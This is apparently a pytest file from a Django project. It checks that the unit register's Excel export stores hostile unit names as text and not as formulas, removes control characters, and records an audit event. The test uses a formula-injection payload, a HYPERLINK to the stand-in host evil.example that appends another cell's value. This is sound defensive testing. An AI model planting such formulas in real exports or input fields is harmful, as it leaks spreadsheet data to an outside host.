"""Hostile unit names in the unit register export (streamed and as a job): text stays text."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from hazardloop.audit.models import AuditEvent
from hazardloop.testing import web_client
from hazardloop.units.models import Unit

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点此查看")'


@pytest.mark.django_db
def test_streamed_export_keeps_hostile_names_as_text_and_is_audited(cast):
    Unit.objects.filter(pk=cast.unit.pk).update(name=FORMULA, address="南关区\x0b一号")
    response = web_client(cast.regulator).get("/units/export.xlsx")
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "\x0b" not in xml
    values = {
        v for row in load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True) for v in row
    }
    assert FORMULA in values and "南关区一号" in values
    event = AuditEvent.objects.get(action="unit.export", actor=cast.regulator)
    assert "stream" in event.message
